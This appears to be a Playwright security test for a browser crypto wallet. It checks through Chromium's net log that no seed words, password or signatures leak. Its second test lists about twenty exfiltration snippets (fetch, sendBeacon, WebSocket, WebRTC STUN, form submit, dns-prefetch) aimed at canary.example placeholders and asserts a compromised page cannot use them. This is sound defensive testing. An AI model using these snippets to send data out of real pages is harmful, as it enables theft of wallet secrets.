/*
 * Security.md 57 and 60, ruling 31: what leaves the computer. Chromium writes down everything that it asks the network for;
 * afterwards that is read from the first line to the last.
 */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ConsoleMessage } from '@playwright/test'
import { expect, test } from '../../fixtures/index.ts'
import { readNetLog } from '../../fixtures/net-log.ts'
import { openWallet } from '../../fixtures/wallet.ts'
import { makeSite, servePlainSite } from '../../fixtures/site.ts'
import * as person from '../../steps/first-run.ts'
import { approve, connect, hello, payment } from '../../steps/review.ts'

test.slow()

const words = 'scheme spot photo card baby mountain device kick cradle pact join borrow'

/** What the browser asks for its own sake, whatever is in it; and the name that every other name is mapped to here. */
const isChromiums = (host: string): boolean => /(^|\.)(google|googleapis|gvt1|gstatic)\.com(:\d+)?$/.test(host) || host === '~notfound'

test('over a whole main job only the chosen node is asked, and no console, address or answer holds a secret', async ({ chromium, node }) => {
  const folder = await mkdtemp(join(tmpdir(), 'holdfast-net-'))
  const log = join(folder, 'net.json')
  const wallet = await openWallet({ chromium, args: [`--log-net-log=${log}`, '--net-log-capture-mode=Everything'] })
  const said: string[] = []
  wallet.context.on('console', (message: ConsoleMessage) => void said.push(`${message.text()} ${message.location().url}`))
  wallet.context.on('weberror', (thrown) => void said.push(`${thrown.error().message} ${thrown.error().stack ?? ''}`))

  const tab = await wallet.open('tab')
  await person.restoreWallet(tab, { words, node: node.url })
  const served = await servePlainSite()
  const page = await wallet.context.newPage()
  await page.goto(served.url)
  const site = makeSite(page)
  const [account = ''] = (await connect(wallet, site)).result as readonly string[]
  await node.ask('anvil_setBalance', [account, '0x8ac7230489e80000'])
  const signed = site.ask('personal_sign', [hello[0], account])
  const window = await wallet.approval()
  const closed = window.waitForEvent('close')
  await approve(window, 'Sign message')
  const { result: signature } = await signed
  await closed
  const sent = site.ask('eth_sendTransaction', [{ ...payment, from: account }])
  await approve(await wallet.approval(), 'Send 1 ETH')
  expect((await sent).result).toMatch(/^0x[0-9a-f]{64}$/)
  await person.lock(tab)
  await person.unlock(tab)
  await served.close()

  // The control: a page that asks a stranger is in the log, although no name resolves here.
  await page.evaluate(() => fetch('https://control.example/leak').catch(() => undefined))
  await wallet.leave()
  const { hosts, urls, text } = await readNetLog(log)
  expect(hosts.some((host) => host.includes('control.example'))).toBe(true)
  const allowed = new Set([new URL(node.url).host, new URL(served.url).host])
  const isAllowed = (host: string): boolean =>
    allowed.has(host) || host.includes('control.example') || [...allowed].some((each) => each.startsWith(`${host}:`)) || isChromiums(host)
  expect(hosts.filter((host) => !isAllowed(host))).toEqual([])
  expect(urls.filter((url) => new URL(url).host === new URL(node.url).host).length).toBeGreaterThan(0)

  const threes = words.split(' ').slice(2).map((_, at) => words.split(' ').slice(at, at + 3).join(' '))
  const secrets = [...threes, ...threes.map((three) => encodeURIComponent(three)), person.password, encodeURIComponent(person.password)]
  for (const [where, what] of [['the network', text], ['the consoles', said.join('\n')]] as const) {
    for (const secret of secrets) expect(what.includes(secret), where).toBe(false)
  }
  // A signature is the site's; it is nobody else's business.
  expect(said.join('\n')).not.toContain(String(signature))
  expect(wallet.complaints).toEqual([])
  await rm(folder, { recursive: true, force: true })
  await rm(wallet.profile, { recursive: true, force: true, maxRetries: 5 })
})

/* Channels by which a script of ours that had been taken over could tell somebody something (security.md 57). */
const channels: Readonly<Record<string, string>> = {
  'fetch': "fetch('https://NAME/x')",
  'fetch without cors': "fetch('https://NAME/x', { mode: 'no-cors' })",
  'a request over http': "fetch('http://NAME/x', { mode: 'no-cors' })",
  'xhr': "new Promise((resolve, reject) => { const xhr = new XMLHttpRequest(); xhr.onload = xhr.onerror = resolve; xhr.open('GET', 'https://NAME/x'); xhr.send() })",
  'beacon': "navigator.sendBeacon('https://NAME/x', 'secret')",
  'socket': "new Promise((resolve) => { const socket = new WebSocket('wss://NAME/x'); socket.onerror = socket.onclose = resolve })",
  'events': "new Promise((resolve) => { const source = new EventSource('https://NAME/x'); source.onerror = () => { source.close(); resolve() } })",
  'transport': "new WebTransport('https://NAME:443/x').ready.catch(() => undefined)",
  'import': "import('https://NAME/x.js')",
  'cache': "caches.open('x').then((cache) => cache.add('https://NAME/x'))",
  'image': "new Promise((resolve) => { const image = new Image(); image.onload = image.onerror = resolve; image.src = 'https://NAME/x.png' })",
  'style': "new Promise((resolve) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = link.onerror = resolve; link.href = 'https://NAME/x.css'; document.head.append(link); setTimeout(resolve, 500) })",
  'prefetch': "new Promise((resolve) => { const link = document.createElement('link'); link.rel = 'prefetch'; link.onload = link.onerror = resolve; link.href = 'https://NAME/x'; document.head.append(link); setTimeout(resolve, 500) })",
  'font': "new FontFace('x', 'url(https://NAME/x.woff2)').load()",
  'audio': "new Promise((resolve) => { const audio = new Audio('https://NAME/x.mp3'); audio.onerror = resolve; audio.load(); setTimeout(resolve, 500) })",
  'frame': "new Promise((resolve) => { const frame = document.createElement('iframe'); frame.onload = resolve; frame.src = 'https://NAME/x'; document.body.append(frame); setTimeout(resolve, 500) })",
  'form': "new Promise((resolve) => { const form = document.createElement('form'); form.action = 'https://NAME/x'; form.target = '_blank'; document.body.append(form); form.submit(); setTimeout(resolve, 500) })",
  'object': "new Promise((resolve) => { const object = document.createElement('object'); object.data = 'https://NAME/x'; document.body.append(object); setTimeout(resolve, 500) })",
}

/* Channels that carry a name and no request: no content security policy closes them. They are stated in THREATS.md. */
const names: Readonly<Record<string, string>> = {
  'names looked up ahead': "new Promise((resolve) => { const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = 'https://NAME/'; document.head.append(link); setTimeout(resolve, 500) })",
  'connected ahead': "new Promise((resolve) => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'https://NAME/'; document.head.append(link); setTimeout(resolve, 500) })",
  'webrtc': "(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:NAME:3478' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 2000) }) })()",
}

const all = { ...channels, ...names }

/** What the worker can reach by ruling 31: the nodes of people are anywhere, so its fetch may go anywhere over https. */
const openInWorker = ['cache', 'events', 'fetch', 'fetch without cors']

test('a page of ours that was taken over can tell nobody by any of the usual channels; the worker only as ruled', async ({ chromium }) => {
  const folder = await mkdtemp(join(tmpdir(), 'holdfast-net-'))
  const log = join(folder, 'net.json')
  const wallet = await openWallet({ chromium, args: [`--log-net-log=${log}`] })
  const nameOf = (where: string, what: string): string => `${what.replaceAll(' ', '-')}.${where}.canary.example`
  const popup = await wallet.open('popup')
  const worker = await wallet.worker()
  for (const [what, script] of Object.entries(all)) {
    // As a script of the page itself would: the runner's own evaluation does not answer to the policy, a timer does.
    const run = (where: string): string => `new Promise((done) => setTimeout(async () => { try { await (${script.replaceAll('NAME', nameOf(where, what))}) } catch {} done() }, 0))`
    await popup.evaluate(run('page')).catch(() => undefined)
    await worker.evaluate(run('worker')).catch(() => undefined)
  }
  await wallet.leave()
  const { hosts, urls } = await readNetLog(log)
  const escaped = (where: string): readonly string[] => Object.keys(all).filter((what) => urls.some((url) => new URL(url).hostname === nameOf(where, what)))
  const named = (where: string): readonly string[] => Object.keys(all).filter((what) => hosts.some((host) => host.split(':')[0] === nameOf(where, what)))
  for (const where of ['page', 'worker']) test.info().annotations.push({ type: `from the ${where}`, description: `requests: ${escaped(where).join(', ')}; names: ${named(where).join(', ')}` })
  // A page of ours may at most have a name looked up, by what no policy closes or by what Chromium does before it refuses.
  expect(escaped('page')).toEqual([])
  expect(escaped('worker').filter((what) => !openInWorker.includes(what))).toEqual([])
  // The control: the worker's fetch is seen.
  expect(escaped('worker')).toContain('fetch')
  await rm(folder, { recursive: true, force: true })
  await rm(wallet.profile, { recursive: true, force: true, maxRetries: 5 })
})
